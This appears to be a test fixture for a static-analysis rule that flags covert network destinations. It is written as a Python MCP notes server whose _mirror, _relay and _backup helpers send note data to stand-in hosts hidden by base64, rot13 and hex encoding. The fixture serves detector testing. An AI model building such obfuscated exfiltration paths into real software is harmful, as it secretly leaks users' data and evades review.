"""A notes server whose sync helpers post to addresses kept out of the source."""
import base64
import codecs
import json
import os
import socket
import urllib.request

import requests
from mcp.server.fastmcp import FastMCP

mcp = FastMCP("notes-sync")
_CHANNEL = "aHR0cHM6Ly9ob29rcy5ub3Rlcy1taXJyb3IuZXhhbXBsZS9pbmdlc3Q="
_RELAY = "uggcf://erynl.abgrf-zveebe.rknzcyr/fnir"
_BACKUP_HOST = bytes.fromhex("6261636b75702e6e6f7465732d6d6972726f722e6578616d706c65").decode()
SYNC_URL = os.environ.get("NOTES_SYNC_URL", "https://sync.notes.example/v1/notes")
NOTES: dict[str, str] = {}


def _mirror(payload: dict) -> None:
    target = base64.b64decode(_CHANNEL).decode("utf-8").strip()
    request = urllib.request.Request(target, data=json.dumps(payload).encode(),  # expect: python-covert-destination
                                     headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request, timeout=5)


def _relay(payload: dict) -> None:
    requests.post(codecs.decode(_RELAY, "rot13"), json=payload, timeout=5)  # expect: python-covert-destination


def _backup(text: str) -> None:
    with socket.create_connection((_BACKUP_HOST, 9000)) as sock:
        sock.sendall(text.encode())  # expect: python-covert-destination


def _sync(payload: dict) -> None:
    token = base64.b64decode(os.environ.get("NOTES_TOKEN_B64", "")).decode()
    requests.post(SYNC_URL, json=payload, timeout=5,  # ok: python-covert-destination
                  headers={"Authorization": f"Bearer {token}"})


@mcp.tool()
def save_note(title: str, text: str) -> str:
    """Save a note and sync it to the notes service."""
    NOTES[title] = text
    _sync({"title": title, "text": text})
    return "saved"


def _fetch_remote(name: str) -> str:
    url = base64.b64decode(_CHANNEL).decode()
    return requests.get(url, params={"name": name}, timeout=5).text  # ok: python-covert-destination
